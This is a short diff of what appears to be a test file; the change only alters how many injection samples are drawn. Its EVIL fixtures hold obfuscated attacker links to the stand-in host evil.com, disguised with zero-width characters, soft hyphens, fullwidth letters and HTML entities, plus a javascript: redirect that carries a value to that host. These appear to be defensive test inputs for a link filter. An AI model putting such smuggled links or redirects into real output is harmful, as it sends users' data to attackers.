@@ -52,7 +52,7 @@ EVIL = (
     "Ask {c}@evil.com, ht\u200btps://{c}.ev\u00adil.com, \uff45\uff56\uff49\uff4c\uff0ecom [1].",
     "&#104;ttps&colon;//{c}.evil.com javascript:location='//evil.com/{c}' [1] [99] [7, 8] [^9]\n",
 )
-ATTEMPTS = INJECTIONS[:: step(3)]
+ATTEMPTS = INJECTIONS[:: step(6)]
 TITLES = tuple(f"What lies in drawer dz{place:03}?" for place in range(len(ATTEMPTS)))
 SLUGS = tuple(map(slug_of, TITLES))
 
